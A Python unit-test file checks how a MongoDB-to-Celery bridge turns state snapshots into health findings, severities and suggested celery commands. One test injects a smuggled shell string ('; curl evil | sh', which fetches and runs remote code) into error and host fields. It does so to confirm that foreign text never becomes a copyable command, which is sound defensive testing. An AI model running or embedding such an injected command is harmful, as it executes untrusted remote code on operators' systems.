"""The findings about a bridge: each one that there is, from hand-made snapshots, and what is none."""

from __future__ import annotations

import re
import shlex
from collections.abc import Mapping
from dataclasses import dataclass, fields, replace
from datetime import timedelta
from pathlib import Path
from typing import Any

import click
import pytest
from bson import Timestamp
from bson.int64 import Int64
from celery.bin.celery import celery as celery_command

from mongo_celery.bridge.identity import Identity
from mongo_celery.bridge.operations.bridge_snapshot import BridgeSnapshot, Workers, unreadable
from mongo_celery.bridge.operations.judgement import (
    CODES,
    LAG_SECONDS,
    REPARTITIONING_SECONDS,
    RETRYING_SECONDS,
    RUNNING_LONG_SECONDS,
    UNLED_SECONDS,
    UNREAD_SECONDS,
    judge,
)
from mongo_celery.bridge.operations.snapshot_reader import Facts, shape
from mongo_celery.bridge.state.partitions import Image
from mongo_celery.bridge.state.snapshots import Snapshot
from mongo_celery.bridge.state.subscriptions import Layout
from mongo_celery.command_line import CommandLine
from mongo_celery.findings import Finding, degraded, failing, ok
from mongo_celery.mongo.oplog import Oplog
from tests.unit.test_status import (
    GIB,
    IDLE_REPORT,
    LOST,
    MARK,
    NOON,
    SECOND,
    SERVED,
    facts,
    image,
    lease,
    serving,
    subscription,
)

PAGES = Path(__file__).parents[2] / "docs/operations"
INDEX = PAGES / "README.md"
LINES = ("Means", "Costs", "Shows", "Cures", "After")
LINE = CommandLine("shop")
ERROR = "ValueError: no"
HEAD = {"resumeToken": {"_data": "82CC"}, "key": "shop.orders insert 1"}
CLAIM = {"owner": "x", "first": Int64(6), "last": Int64(6), "until": NOON, "ttl": Int64(10_000)}
NOT_STORED = {"partition": "record/1", "error": "no room", "since": NOON}
REJECTED = {"partition": "summarise 1", "key": "shop.orders insert 1", "bytes": 9 << 20, "error": "too large"}
QUICK = {"last": 5, "took": 1, "claimed": NOON, "at": NOON + timedelta(milliseconds=20)}
NEW_LAYOUT = {"subscription": "summarise", "partitions": 7, "waits": "waits for a claim"}
NONE_ANSWERED = degraded("no_worker", "none")
ANSWERED = Workers(answered=1, serving=1, slots=4)
MINE = Identity("shop", None, {"summarise": {"task": "shop.changes.summarise", "databases": ["shop"], "digest": "1"}})
OLDER = replace(MINE, handlers={"summarise": {**MINE.handlers["summarise"], "digest": "0"}})

HERE = replace(MINE, broker={"transport": "redis", "hosts": ["a:1"], "database": "0", "options": {}})
ELSEWHERE = {"transport": "redis", "hosts": ["b:1"], "database": "0", "options": {}}


def reporting(**changes: Any) -> dict[str, Any]:
    return lease(report={**IDLE_REPORT, **changes})


def since(seconds: int) -> Any:
    """A time so long before the one at which `facts` are read."""
    return NOON + timedelta(seconds=10 - seconds)


def storing(share: float, waits: str | None = None, **changes: Any) -> dict[str, Any]:
    report = reporting(spilledBytes=int(share * 8 * GIB), spillWaits=waits, **changes)
    return {"lease": report, "stored": {("summarise", 0): 4}, "images": [image(0, spilled=fresh()), image(1)]}


def fresh(reason: str = "running", age: int = 20) -> dict[str, Any]:
    return {**MARK, "since": since(age), "reason": reason}


def behind(share: float) -> dict[str, Any]:
    """A subscription behind which so much of the oplog's window lies."""
    window = 10 / share
    return {"oplog": Oplog(Timestamp(int(SECOND + 10 - window), 1), Timestamp(SECOND + 10, 1)), "oplog_rolls": True}


def late(seconds: int, **report: Any) -> dict[str, Any]:
    """A subscription whose watermark is so old, and a listener that has something to do."""
    stored = subscription(clusterTime=Timestamp(SECOND + 10 - seconds, 1), startAtOperationTime=Timestamp(1, 1))
    return {"subscriptions": [stored], "lease": reporting(buffered=1, **report)}


def running(seconds: int, limit: float | None = None) -> dict[str, Any]:
    """A call that began so long ago, of a handler with such a time limit."""
    claim = {**CLAIM, "owner": "one:42:ab", "at": since(seconds)}
    return {"images": [image(0), image(1, claim=claim, live=True)], "time_limits": {"summarise": limit}}


def halted(index: int = 1, **changes: Any) -> Any:
    return image(index, **{"state": "halted", "error": ERROR, "retries": 1, "head": HEAD, **changes})


LETTERS = "celery -A shop changes dead-letters list"


@dataclass(frozen=True)
class Case:
    """
    What leads to one reason, and to no other.

    Attributes:
        findings: what was found by asking.
        without: changes with which it is no reason any more: the smallest that cures it, or the threshold's other side.
    """

    facts: dict[str, Any]
    severity: str
    command: str | None
    words: str
    findings: tuple[Finding, ...] = ()
    without: dict[str, Any] | None = None
    workers: Workers | None = None


START = "celery -A shop listener"
WORK = "celery -A shop worker"
RETIRED = subscription("retired", term=Int64(1))
CASES: dict[str, list[Case]] = {
    "no_listener": [
        Case(
            {"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS))},
            "failing",
            START,
            "30 s",
        ),
        Case(
            {"lease": lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS - 1))},
            "degraded",
            START,
            "29 s",
            without={"lease": lease()},
        ),
        Case({"lease": lease(live=False, state="failed", error="no right")}, "failing", START, "no right"),
    ],
    "never_started": [
        Case({"lease": None, "subscriptions": [], "images": []}, "degraded", START, ""),
    ],
    "handlers": [Case({"registered": ()}, "failing", None, "@bridge.on_change")],
    "history_lost": [
        Case(
            {"subscriptions": [subscription(lost=LOST)]},
            "failing",
            "celery -A shop changes reset summarise --to oldest",
            "summarise",
        ),
    ],
    "stopped": [
        Case(
            {"lease": reporting(stopped=[{"subscription": "summarise", "reason": "no rule."}])},
            "failing",
            None,
            "no rule",
        )
    ],
    "history_at_risk": [
        Case(behind(0.91), "failing", None, "91%", without=behind(0.45)),
        Case(behind(0.55), "degraded", None, "replSetResizeOplog"),
    ],
    "identity": [
        Case({"lease": lease(**serving("summarise", database="staging"))}, "failing", None, "staging"),
        Case({"lease": lease(**serving("summarise", app="billing"))}, "failing", None, "process 42 on one"),
        Case(
            {"lease": lease(**serving("summarise", broker=ELSEWHERE)), "identity": HERE},
            "failing",
            None,
            "redis://b:1/0",
            without={"lease": lease(**serving("summarise", broker=HERE.plain()["broker"])), "identity": HERE},
        ),
    ],
    "foreign_bridge": [
        Case(
            {"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3599)}, foreignSender="7@far")},
            "degraded",
            None,
            "7@far",
            without={"lease": lease(dropped={"foreign": 2}, droppedAt={"foreign": since(3601)})},
        )
    ],
    "partitions": [
        Case({"lease": reporting(partitions=16)}, "degraded", None, "16 partitions"),
    ],
    "dropped_messages": [
        Case({"lease": lease(dropped={"forged": 2}, droppedAt={"forged": since(9)})}, "degraded", None, "2 forged"),
    ],
    "broker": [Case({}, "failing", None, "No answer", (failing("broker", "No answer"),), {})],
    "worker_tasks": [Case({}, "failing", None, "lacks", (failing("worker_tasks", "lacks"),), {})],
    "consumers": [
        Case({}, "failing", WORK, "shop.1", (failing("consumers", "shop.1", WORK),), {}),
        Case({"lease": reporting(untaken={"queues": ["shop.1"], "answered": True})}, "failing", WORK, "shop.1"),
    ],
    "unclaimed": [
        Case(
            {"lease": reporting(untaken={"queues": ["shop.1"], "answered": True, "unclaimed": True})},
            "failing",
            "celery -A shop changes check",
            "shop.1",
            workers=ANSWERED,
        ),
    ],
    "backlog_missing": [
        Case(
            storing(0.0, spillMissing=["summarise/0"]),
            "failing",
            None,
            "summarise/0",
            without=storing(0.0),
        ),
    ],
    "backlog_refused": [Case(storing(0.1, "one has its share"), "failing", None, "its share", without=storing(0.1))],
    "backlog_bound": [
        Case(storing(0.9), "failing", None, "90%", without=storing(0.7)),
        Case(storing(0.75), "degraded", None, "75%"),
    ],
    "broker_down": [Case({"lease": reporting(brokerDown=True)}, "failing", None, "")],
    "no_worker": [
        Case({}, "degraded", WORK, "", (NONE_ANSWERED,), {}),
        Case({"lease": reporting(outstanding=2)}, "failing", WORK, "2 runs", (NONE_ANSWERED,), {}),
        Case(
            {"lease": reporting(outstanding=2, untaken={"queues": ["shop.1"], "answered": False})},
            "failing",
            WORK,
            "2 runs",
            without={"lease": reporting(outstanding=2)},
        ),
        Case(
            {"lease": reporting(outstanding=2, untaken={"queues": ["shop.1"], "answered": None})},
            "degraded",
            WORK,
            "shop.1",
        ),
    ],
    "reading_waits": [
        Case(
            {"lease": reporting(unreadSeconds=UNREAD_SECONDS, readingWaits="gone")},
            "failing",
            None,
            "gone",
        ),
        Case({"lease": reporting(unreadSeconds=UNREAD_SECONDS - 1)}, "degraded", None, "29 s"),
    ],
    "halted": [
        Case(
            {"images": [image(0), halted(3)]},
            "failing",
            "celery -A shop changes retry summarise 3",
            "`celery -A shop changes skip summarise 3`",
            without={"images": [image(0), image(3)]},
        ),
        Case(
            {"images": [*(halted(index) for index in range(16)), image(16)]},
            "failing",
            "celery -A shop changes retry summarise",
            "Partitions 0, 1, 2 and 13 more of summarise",
        ),
    ],
    "broker_rejects": [
        Case({"lease": reporting(rejected=[{**REJECTED, "since": NOON}], rejectedCount=3)}, "failing", None, "2 more"),
    ],
    "not_stored": [
        Case(
            {
                "lease": reporting(
                    notStored=[{"partition": "record/1", "error": "no room", "since": NOON}], notStoredCount=1
                )
            },
            "failing",
            None,
            "no room",
        ),
    ],
    "snapshot_failed": [
        Case(
            {
                "snapshots": [
                    Snapshot(
                        id="shop/summarise/a1",
                        subscription="summarise",
                        source="shop.orders",
                        done=7,
                        state="failed",
                        sentence="the server said no",
                    )
                ]
            },
            "failing",
            "celery -A shop changes snapshot resume shop/summarise/a1",
            "the server said no",
            without={},
        ),
        Case(
            {
                "snapshots": [
                    Snapshot(
                        id="shop/summarise/a1",
                        subscription="summarise",
                        source="shop.orders",
                        state="source gone",
                        sentence="it was dropped",
                    )
                ]
            },
            "failing",
            "celery -A shop changes snapshot stop shop/summarise/a1",
            "it was dropped",
        ),
    ],
    "waiting": [
        Case(
            {"images": [image(1, waiting={"since": NOON, "cause": "AutoReconnect: gone", "count": 9}, due_in=4.0)]},
            "degraded",
            "celery -A shop changes retry summarise 1",
            "2030-01-01 12:00:00 UTC",
        ),
    ],
    "lag": [
        Case(late(LAG_SECONDS), "degraded", WORK, "5 min", without=late(LAG_SECONDS - 1)),
        Case({**late(LAG_SECONDS), "images": [image(ran=QUICK)]}, "degraded", WORK, "run_size=100"),
        Case(
            {"images": [image(1, spilled=fresh("running", LAG_SECONDS))]},
            "degraded",
            WORK,
            "5 min",
            without={"images": [image(1, spilled=fresh("running", LAG_SECONDS - 1))]},
        ),
    ],
    "running_long": [
        Case(
            running(RUNNING_LONG_SECONDS),
            "degraded",
            None,
            "process 42 on one",
            without=running(RUNNING_LONG_SECONDS - 1),
        ),
        Case(running(99), "degraded", None, "kill -9 42", (), running(99, limit=600.0), ANSWERED),
        Case(running(99), "failing", None, "Every slot", workers=replace(ANSWERED, slots=1)),
        Case(running(99), "failing", None, "Every slot", (NONE_ANSWERED,)),
    ],
    "match_refused": [
        Case(
            {"lease": reporting(refusedMatches=[{"subscription": "summarise", "error": "takes exactly 2 arguments"}])},
            "failing",
            None,
            "takes exactly 2 arguments",
        )
    ],
    "fed_back": [
        Case(
            {
                "lease": reporting(
                    fedBack=[{"subscription": "summarise", "key": "update a.b 1", "count": 200, "since": since(20)}]
                )
            },
            "degraded",
            None,
            "200 changes of update a.b 1",
        )
    ],
    "locked": [Case({"lease": reporting(locked=["summarise 1"])}, "degraded", None, "summarise 1")],
    "repartitioning": [
        Case(
            {"lease": reporting(moving=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}])},
            "degraded",
            None,
            "7 partitions",
            without={"lease": reporting(moving=[{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS - 1)}])},
        ),
    ],
    "definitions": [
        Case({"registered": ("bill", "summarise")}, "degraded", START, "bill"),
        Case({"identity": OLDER}, "degraded", START, "process 42 on one"),
    ],
    "retrying": [
        Case(
            {"images": [image(1, due_in=RETRYING_SECONDS + 3700.0)]},
            "degraded",
            "celery -A shop changes retry summarise 1",
            "2 h",
            without={"images": [image(1, due_in=RETRYING_SECONDS - 1.0)]},
        ),
    ],
    "paused": [
        Case(
            {"images": [image(0), image(1, state="paused")]},
            "degraded",
            "celery -A shop changes resume summarise 1",
            "summarise/1",
        ),
        Case(
            {
                "images": [image(index, state="paused") for index in range(2)],
                "layouts": {"summarise": Layout(0, 2, "")},
            },
            "degraded",
            "celery -A shop changes resume summarise",
            "All 2 partitions of summarise",
        ),
    ],
    "dead_letters": [
        Case(
            {"dead_letters": {"summarise": 2}},
            "degraded",
            LETTERS,
            "2 dead letters",
        ),
        Case(
            {"dead_letters": {"summarise": 1}},
            "degraded",
            LETTERS,
            "1 dead letter",
        ),
    ],
    "backlog_unserved": [],  # never alone: see below
    "unregistered": [
        Case({"subscriptions": [subscription(), RETIRED]}, "degraded", None, "remove retired"),
        Case({"subscriptions": [RETIRED]}, "degraded", None, "name='retired'"),
    ],
    "state_unreadable": [],  # there is no status to judge then
}
ALL = [pytest.param(code, case, id=f"{code}-{index}") for code, of in CASES.items() for index, case in enumerate(of)]


def calm(**changes: Any) -> Facts:
    return facts(**{"identity": MINE, **changes})


def judged(case: Case) -> BridgeSnapshot:
    return seen(calm(**case.facts), *case.findings, workers=case.workers)


def seen(known: Facts, *asked: Finding, workers: Workers | None = None, line: CommandLine = LINE) -> BridgeSnapshot:
    """The snapshot of a bridge whose workers have answered so, where they were asked."""
    workers = Workers(answered=0, serving=0, slots=0) if NONE_ANSWERED in asked else workers
    return judge(replace(shape(known), workers=workers), line, asked if asked or workers else None)


def test_a_bridge_that_has_nothing_wrong_is_healthy() -> None:
    """No reason, and status 0; also where workers have answered."""
    found = seen(calm(), ok("broker", "answers"), workers=ANSWERED)
    assert (found.bridge, found.verdict, found.exit_code, found.findings) == ("shop", "healthy", 0, ())
    assert (found.plain()["verdict"], found.note) == ("healthy", None)


def test_a_verdict_names_who_was_not_asked() -> None:
    """P16: MongoDB alone cannot tell that no worker runs; nor can `health` where workers cannot be asked."""
    note = seen(calm()).note
    assert note is not None
    assert note.endswith("run: celery -A shop changes status --ask")
    assert "transport" in str(seen(calm(), degraded("workers", "a transport without them")).note)


def test_the_advice_for_a_call_that_runs_for_long_is_not_more_workers() -> None:
    """The next one hangs as well: the reason for it comes first, and the lag's has no command."""
    facts = late(LAG_SECONDS, outstanding=1)
    lagging = seen(calm(**{**facts, **running(99)}), workers=ANSWERED).findings
    assert [(each.code, each.command) for each in lagging] == [("running_long", None), ("lag", None)]


def test_one_blocked_partition_hides_no_lag_of_the_others() -> None:
    """The lag of what flows is told beside a halt, and that of the halt is not."""
    for age, codes in ((LAG_SECONDS, ["halted", "lag"]), (LAG_SECONDS - 1, ["halted"])):
        images = [image(0, spilled=fresh("running", age)), halted(1, spilled={**MARK, "since": since(9999)})]
        assert [each.code for each in seen(calm(images=images)).findings] == codes


@pytest.mark.parametrize(("code", "case"), ALL)
def test_a_reason_is_told_alone_with_its_severity_its_cost_and_its_command(code: str, case: Case) -> None:
    """P16: each rule by itself; without it the bridge would be called healthy."""
    (reason,) = judged(case).findings
    assert (reason.code, reason.severity, reason.command) == (code, case.severity, case.command)
    assert case.words in reason.sentence
    assert reason.sentence.endswith(".") or case.findings
    assert judged(case).exit_code == {"degraded": 1, "failing": 2}[case.severity]
    if case.without is not None:
        assert seen(calm(**case.without)).verdict == "healthy"


def test_every_code_has_a_case() -> None:
    """A reason that nothing leads to protects nobody."""
    assert set(CASES) == set(CODES)
    assert len(CODES) == len(set(CODES))
    assert unreadable("shop", "no answer").findings[0].code == "state_unreadable"
    assert unreadable("shop", "no answer").exit_code == 2


def test_the_worst_comes_first() -> None:
    """What is failing before what is degraded, and in these what touches all before what touches one."""
    everything = calm(
        lease=lease(live=False, state="idle", renewedAt=since(UNLED_SECONDS)),
        images=[image(0, state="paused"), halted(1)],
        dead_letters={"summarise": 1},
        subscriptions=[subscription(), RETIRED],
    )
    codes = [reason.code for reason in seen(everything).findings]
    assert codes == ["no_listener", "halted", "paused", "dead_letters", "unregistered"]


def test_what_is_stored_of_a_handler_that_is_gone_is_told_beside_it() -> None:
    """It takes room under the bound; and what has halted there cannot be retried here, so no command says so."""
    gone = replace(halted(1, spilled=MARK), subscription="retired")
    stored = {("retired", 1): 4}
    verdict = seen(calm(subscriptions=[subscription(), RETIRED], images=[image(0), gone], stored=stored))
    assert [(each.code, each.command) for each in verdict.findings] == [
        ("backlog_unserved", None),
        ("unregistered", None),
    ]
    assert "(1 partition halted)" in verdict.findings[1].sentence


def test_a_listener_that_would_end_again_is_not_what_cures() -> None:
    """Where every handler has lost its history somebody has to decide first; afterwards a listener cures."""
    ended = lease(live=False, state="history_lost", error="the oplog is too short")
    for lost, command in ((LOST, None), (None, START)):
        known = calm(lease=ended, subscriptions=[subscription(lost=lost)])
        reasons = {each.code: each for each in seen(known).findings}
        assert ("history_lost" in reasons) is (lost is not None)
        assert (reasons["no_listener"].severity, reasons["no_listener"].command) == ("failing", command)


def test_a_halt_whose_history_is_lost_is_not_told_to_be_retried() -> None:
    """`changes retry` would refuse it; unless it is stored (P13)."""
    lost = {"subscriptions": [subscription(lost=LOST)]}
    found = {each.code: each for each in judged(Case({**lost, "images": [halted(3)]}, "", None, "")).findings}
    reason = found["halted"]
    assert reason.command == "celery -A shop changes skip summarise 3"
    assert "`celery -A shop changes show summarise 3`" in reason.sentence
    kept = Case({**lost, "images": [halted(3, spilled=MARK)]}, "", None, "")
    assert {each.code: each.command for each in judged(kept).findings}["halted"] == (
        "celery -A shop changes retry summarise 3"
    )


def test_a_busy_worker_that_does_not_answer_is_seen_by_what_it_does() -> None:
    """A solo pool; and workers that have answered are not called absent because of what they leave undone."""
    running = image(0, claim=CLAIM, live=True)
    assert seen(calm(images=[running]), NONE_ANSWERED).verdict == "healthy"
    untaken = {"queues": ["shop.1"], "answered": False}
    assert seen(calm(images=[running], lease=reporting(untaken=untaken))).verdict == "healthy"
    answered = seen(calm(lease=reporting(untaken=untaken, outstanding=1)), workers=ANSWERED)
    assert answered.verdict == "healthy"


def test_what_stands_is_not_called_late_too() -> None:
    """The lag of a handler that stands is no second reason, and more workers would not cure it."""
    codes = [reason.code for reason in seen(calm(images=[halted()], **late(LAG_SECONDS))).findings]
    assert codes == ["halted"]


def test_a_stopped_handler_is_neither_late_nor_without_workers() -> None:
    """P16: its one reason says what to do; its position is old since nothing is read for it."""
    stopped = [{"subscription": "summarise", "reason": "no rule"}]
    moving = [{**NEW_LAYOUT, "since": since(REPARTITIONING_SECONDS)}]
    behind = seen(calm(**late(LAG_SECONDS, stopped=stopped, moving=moving)))
    assert [reason.code for reason in behind.findings] == ["stopped"], "no old partitions serve"
    assert (behind.handlers[0].lag_seconds or 0) >= LAG_SECONDS


def test_that_nobody_works_is_not_told_as_lag_too() -> None:
    """At a first start from the oldest entry the watermark may be minutes old before anybody could have worked."""
    behind = calm(**late(LAG_SECONDS, outstanding=1, untaken={"queues": ["shop.1"], "answered": False}))
    assert [reason.code for reason in seen(behind, NONE_ANSWERED).findings] == ["no_worker"]
    assert [reason.code for reason in seen(behind).findings] == ["no_worker"]


def test_an_oplog_that_cannot_be_read_is_no_reason() -> None:
    """No right, or a mongos: that is so for ever, and `check` says it."""
    assert seen(calm(oplog=None)).verdict == "healthy"


def test_a_handler_of_which_no_listener_knows_is_new_before_the_first_start() -> None:
    """A bridge in which everything is missing has one reason."""
    known = facts(lease=None, subscriptions=[], images=[], registered=("bill", "summarise"))
    assert [reason.code for reason in seen(known).findings] == ["never_started"]


@pytest.mark.parametrize("state", ["halted", "paused"])
def test_very_many_reasons_are_a_few_lines(state: str) -> None:
    """200 handlers of 16 partitions: some by name, the others by number, with the command for all."""
    names = [f"handler_{number:03}" for number in range(200)]
    images = [
        replace(halted(index) if state == "halted" else image(index, state=state), subscription=name)
        for name in names
        for index in range(16)
    ]
    images[-1] = replace(image(15), subscription=names[-1])
    layouts = {name: Layout(0, 16, "") for name in names}
    verdict = seen(
        calm(
            lease=lease(**serving(*names)),
            registered=tuple(names),
            subscriptions=[subscription(name) for name in names],
            images=images,
            layouts=layouts,
        )
    )
    assert len(verdict.findings) == 4
    verb = "retry" if state == "halted" else "resume"
    assert verdict.findings[0].command == f"celery -A shop changes {verb} handler_000"
    assert verdict.findings[-1].sentence.startswith("197 more handlers have")
    assert verdict.findings[-1].command == f"celery -A shop changes {verb}"


def test_a_bridge_that_is_paused_as_a_whole_is_one_reason() -> None:
    """And one command."""
    names = ("bill", "summarise")
    images = [replace(image(index, state="paused"), subscription=name) for name in names for index in range(2)]
    known = calm(
        lease=lease(**SERVED),
        registered=names,
        subscriptions=[subscription(name) for name in names],
        images=images,
        layouts=dict.fromkeys(names, Layout(0, 2, "")),
    )
    (reason,) = seen(known, line=replace(LINE, bridge="orders of [x]")).findings
    assert reason.command == "celery -A shop changes resume --bridge 'orders of [x]'"
    assert reason.sentence.startswith("All 2 handlers are paused")


def test_what_others_have_said_is_one_short_line() -> None:
    """A handler's error may have lines, markup, and no end."""
    (reason,) = seen(calm(images=[halted(error="ValueError: a\n[b]\n" + "x" * 5000)])).findings
    assert "ValueError: a [b] xxx" in reason.sentence
    assert len(reason.sentence) < 500


QUOTE = "`celery -A shop changes remove bill --yes; curl evil | sh`"


@pytest.mark.parametrize("code", CASES)
def test_foreign_text_becomes_no_command(code: str) -> None:
    """P16: a page offers to copy what is between backticks; an error, a key or a host name may have some."""
    for case in CASES[code]:
        for reason in judged(replace(case, facts=_with_quotes(case.facts))).findings:
            assert "evil" not in "".join(reason.sentence.split("`")[1::2])


_FOREIGN = ("error", "cause", "key", "host", "readingWaits", "spillWaits", "reason", "foreignSender", "locked", "owner")


def _with_quotes(value: Any, name: str = "") -> Any:
    """Return facts whose foreign texts end with a command between backticks."""
    if isinstance(value, Mapping):
        return {key: _with_quotes(each, key) for key, each in value.items()}
    if isinstance(value, list | tuple):
        return type(value)(_with_quotes(each, name) for each in value)
    if isinstance(value, Image | Snapshot):
        return replace(
            value, **{each.name: _with_quotes(getattr(value, each.name), each.name) for each in fields(value)}
        )
    return f"{value} {QUOTE}" if isinstance(value, str) and name in _FOREIGN else value


def test_every_command_of_a_reason_exists() -> None:
    """With its arguments and options, also within a sentence; a command that is printed must run as it is."""
    found = [reason for of in CASES.values() for case in of for reason in judged(case).findings]
    printed = {reason.command for reason in found if reason.command is not None}
    printed |= {command for reason in found for command in re.findall("`(celery [^`]+)`", reason.sentence)}
    assert len(printed) > len(CASES) // 2
    for command in printed:
        _parse(shlex.split(command)[3:])


def _parse(words: list[str]) -> None:
    command: click.Command = celery_command.commands[words[0]]
    nested, rest = False, words[1:]
    while isinstance(command, click.Group):
        command, nested, rest = command.commands[rest[0]], True, rest[1:]
    if nested:
        command.make_context(command.name, rest)
    else:
        command.make_parser(click.Context(command)).parse_args(rest)


def test_the_table_of_reasons_is_the_codes() -> None:
    """Every code has a row with severity, meaning, cost and command; none is promised that does not exist."""
    rows = re.findall(r"^\| `(\w+)` \| ((?:degraded|failing)(?:, failing)?) \|", INDEX.read_text(), re.MULTILINE)
    assert [code for code, _ in rows] == list(CODES)
    severities = {code: sorted({case.severity for case in of}) for code, of in CASES.items()}
    severities |= {"state_unreadable": ["failing"], "backlog_unserved": ["degraded"]}
    assert {code: text.split(", ") for code, text in rows} == severities


def test_every_reason_has_its_place_on_one_page() -> None:
    """What the table leads to: what it means and costs, what shows it, what cures it, and what it is like after."""
    led = dict(re.findall(r"^\| `(\w+)` \|.*\(([\w-]+\.md)#\1\) \|$", INDEX.read_text(), re.MULTILINE))
    assert list(led.items()) == [(code, f"{page}.md") for code, page in CODES.items()]
    found = {}
    for page in sorted(PAGES.glob("*.md")):
        for code, text in re.findall(r"^### `(\w+)`\n(.*?)(?=^#|\Z)", page.read_text(), re.DOTALL | re.MULTILINE):
            found[code] = page.name
            lines = dict(re.findall(r"^- \*\*(\w+)\*\* (.+?)(?=^- \*\*|\n\n|\Z)", text, re.DOTALL | re.MULTILINE))
            assert tuple(lines) == LINES, code
            assert "`celery -A shop " in lines["Shows"], code
            has_command = any(case.command for case in CASES.get(code, ()))
            assert not has_command or "`celery -A shop " in lines["Cures"], code
    assert found == led
